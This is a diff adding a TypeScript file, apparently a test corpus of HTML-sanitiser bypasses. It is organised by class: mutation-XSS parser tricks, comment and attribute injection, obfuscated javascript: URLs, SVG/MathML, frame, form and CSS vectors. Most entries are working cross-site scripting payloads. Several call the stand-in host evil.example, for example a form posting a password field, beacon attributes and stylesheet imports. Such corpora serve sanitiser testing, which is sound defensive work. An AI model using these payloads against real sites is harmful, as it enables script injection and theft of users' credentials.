@@ -1,0 +1,87 @@
+// What has passed sanitisers before, by class: each writes `window.__hacked`, loads something, or styles the page.
+
+const run = '__hacked=1'
+const image = `<img src=x onerror=${run}>`
+
+export const bypasses: Record<string, string[]> = {
+  // What one parser reads as text, another reads as elements; the second reading happens in the browser.
+  mutation: [
+    `<svg></p><style><a id="</style>${image}">`,
+    `<svg><p><style><!--</style>${image}--></style>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
+    `<math><mi><table><mglyph><style><math href=javascript:${run}>x</math></style></table></mi></math>`,
+    `<svg><foreignobject><math><mi><table><mglyph><style></svg>${image}</style>`,
+    `<noscript><style></noscript>${image}</style>`,
+    `<noembed><p title="</noembed>${image}"></noembed><noframes><p title="</noframes>${image}">`,
+    `<xmp><p id="</xmp>${image}"></xmp><plaintext>${image}`,
+    `<textarea><style></textarea>${image}</style><title><style></title>${image}</style>`,
+    `<select><template><style></select>${image}</style></template><select><style></select>${image}`,
+    `<template><svg><style></template>${image}</style></svg><template shadowrootmode=open>${image}</template>`,
+    `<p><svg><title><style></title>${image}</style></svg><svg><desc><p>${image}</desc>`,
+    `<table><tr><td><svg><style></td></tr></table>${image}</style>`,
+    `<a><b><svg><annotation-xml encoding="text/html"><style></annotation-xml>${image}`,
+    `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
+    `<iframe><p title="</iframe>${image}"></iframe><listing>&lt;img src=x onerror=${run}&gt;</listing>`,
+    `<option><style></option></select>${image}</style><dialog open><style></dialog>${image}`,
+    `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${run}&gt;</style></svg>`,
+    `<div><![CDATA[<p title="]]>${image}">]]><svg><![CDATA[</svg>${image}]]></svg>`,
+    `${'<div>'.repeat(60)}<svg><style></style>${image}`,
+    `${'<b>'.repeat(600)}<table><svg><style>${image}`,
+  ],
+  comments: [
+    `<!--><script>${run}</script>-->`,
+    `<!--!><img src=x onerror=${run}>--!>${image}<!---->`,
+    `<!-- --!><script>${run}</script> -->`,
+    `<!${image}><?${image}?></ ${image}><%${image}%>`,
+    `<!--[if true]>${image}<![endif]-->`,
+  ],
+  attributes: [
+    `<p title='a"onmouseover="${run}'>x</p><p title=a\`onclick=${run}>x</p>`,
+    `<p/onclick=${run}>x</p><p\u000conclick=${run}>x</p><p \u0000onclick=${run}>x</p>`,
+    `<a href="x"onclick=${run} title='>'>x</a><a title=">" onfocus=${run} autofocus tabindex=0>x</a>`,
+    `<img src="x" ${'a=b '.repeat(300)} onerror=${run}>`,
+    `<p is="evil-element" slot=x part=y nonce=z popover=auto inert contenteditable>x</p>`,
+    `<details open ontoggle=${run}><summary accesskey=x onclick=${run}>x</summary></details>`,
+    `<h2 id="trustedTypes">x</h2><h2 id="form-name">x</h2><h2 id="data" name="data">x</h2><a id=data name=data href=x>x</a>`,
+    `<a ping="https://evil.example" attributionsrc="https://evil.example" href="/x" target=_blank rel=opener>x</a>`,
+    `<img src=x srcset="https://evil.example/x 1x" usemap="#m" crossorigin lowsrc="https://evil.example/x" dynsrc=x>`,
+    `<blockquote cite="javascript:${run}">x</blockquote><q cite="javascript:${run}">x</q><del cite="data:x">x</del>`,
+    `<td background="https://evil.example/x">x</td><table background=x><tr><td width=9999999999 height=x>`,
+  ],
+  addresses: [
+    `<a href="&#x6A&#x61;vascript:${run}">x</a><a href="java&Tab;script:${run}">x</a><a href="java&NewLine;script:${run}">x</a>`,
+    `<a href="&#0000106avascript:${run}">x</a><a href="javascript&colon;${run}">x</a><a href="\u0001javascript:${run}">x</a>`,
+    `<a href="feed:javascript:${run}">x</a><a href="view-source:javascript:x">x</a><a href="jar:x">x</a>`,
+    `<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a><a href="http:evil.example">x</a>`,
+    `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="blob:x">x</a><a href="filesystem:x">x</a><a href="about:blank">x</a>`,
+    `<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="https://evil.example/x.png"><img src="//evil.example/x.png">`,
+    `<img src="/\\evil.example/x.png"><img src="http://evil.example/x"><img src="jav&#x09;ascript:${run}">`,
+    `<a href="javascript:${run}" xlink:href="javascript:${run}" formaction="javascript:${run}">x</a>`,
+  ],
+  drawings: [
+    `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
+    `<svg><set attributeName=onmouseover to=${run} /><use href="data:image/svg+xml,<svg id=x/>#x" /></svg>`,
+    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
+    `<svg><image href="https://evil.example/x" /><feImage href="https://evil.example/x" /><script href=data:,${run} />`,
+    `<math xlink:href="javascript:${run}"><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`,
+  ],
+  frames: [
+    `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe><iframe src="javascript:parent.${run}">`,
+    `<object data="javascript:${run}"></object><embed src="javascript:${run}"><applet code=x><portal src=x><fencedframe>`,
+    `<meta http-equiv=refresh content="0;url=javascript:${run}"><base href="https://evil.example/"><link rel=import href=x>`,
+    `<script type=importmap>{}</script><script type=speculationrules>{"prefetch":[]}</script><link rel=prefetch href=//evil.example>`,
+  ],
+  forms: [
+    `<form id=x></form><button form=x formaction="javascript:${run}">x</button><input type=image src=x onerror=${run}>`,
+    `<form action="https://evil.example"><input name=password><select name=x></select><textarea name=y></textarea></form>`,
+    `<isindex type=image src=1 onerror=${run}><keygen autofocus onfocus=${run}><menu><menuitem onclick=${run}>`,
+    `<video><source onerror=${run}></video><audio src onloadstart=${run}><marquee onstart=${run}>x</marquee>`,
+  ],
+  styles: [
+    `<style>@import "https://evil.example"</style><style>*{background:url(https://evil.example)}</style>`,
+    `<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p><font color=x style=x>x</font>`,
+    `<p style="width:expression(${run})" class="dialog error-page" hidden>x</p><center style="-moz-binding:url(x)">x</center>`,
+    `<link rel=stylesheet href="data:text/css,*{display:none}"><svg><style>@import 'https://evil.example'</style></svg>`,
+  ],
+}
